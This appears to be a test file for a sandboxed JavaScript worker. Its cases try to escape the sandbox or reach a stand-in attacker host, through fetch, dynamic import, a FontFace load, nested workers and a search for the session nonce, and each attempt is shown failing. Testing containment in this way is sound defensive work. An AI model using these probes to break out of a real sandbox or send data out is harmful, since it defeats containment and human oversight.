//: the doors by their names
return ["fetch", "fetchLater", "XMLHttpRequest", "WebSocket", "WebSocketStream", "WebTransport", "EventSource",
    "RTCPeerConnection", "importScripts", "Worker", "SharedWorker", "indexedDB", "caches", "cookieStore",
    "localStorage", "sessionStorage", "BroadcastChannel", "MessageChannel", "Notification", "PushManager", "navigator",
    "eval", "postMessage"].filter((name) => self[name] !== undefined).join();
//> gives 
//: the doors on the prototypes
const found = [];
for (let holder = self; holder; holder = Object.getPrototypeOf(holder)) {
    for (const name of ["fetch", "importScripts", "indexedDB", "caches", "navigator", "postMessage"]) {
        if (Object.hasOwn(holder, name)) found.push(name);
    }
}
return found.join();
//> gives 
//: fetch by its name
return await fetch("{attacker}?sealed");
//> raises ReferenceError: fetch is not defined
//: fetch of the scope's class
return await WorkerGlobalScope.prototype.fetch.call(self, "{attacker}?sealed");
//> raises TypeError: Cannot read properties of undefined (reading 'call')
//: a nested worker
return new Worker(URL.createObjectURL(new Blob(["1"])));
//> raises ReferenceError: Worker is not defined
//: indexedDB
return indexedDB.open("agent");
//> raises ReferenceError: indexedDB is not defined
//: navigator
return navigator.storage;
//> raises ReferenceError: navigator is not defined
//: WebSocket
return new WebSocket("ws://example.org");
//> raises ReferenceError: WebSocket is not defined
//: BroadcastChannel
return new BroadcastChannel("agent");
//> raises ReferenceError: BroadcastChannel is not defined
//: import() has no name to take away, the policy refuses it
return await import("{attacker}?sealed").then(() => "open");
//> raises TypeError: *
//: a module of its own making, which the page's policy refuses in the worker too
const text = "export const found = [typeof fetch, typeof Worker, typeof indexedDB, typeof navigator].join()";
return (await import(URL.createObjectURL(new Blob([text], { type: "text/javascript" })))).found;
//> raises TypeError: *
//: code from text
return (() => {}).constructor("return 1")();
//> raises EvalError: *
//: a font
return await new FontFace("stolen", "url({attacker}?font)").load().then(() => "open");
//> raises ReferenceError: FontFace is not defined
//: the session's nonce
return Object.getOwnPropertyNames(self).map((name) => { try { return String(self[name]); } catch { return ""; } })
    .some((text) => text.includes(nonce));
//> gives false
//: closing itself
return typeof close;
//> gives undefined
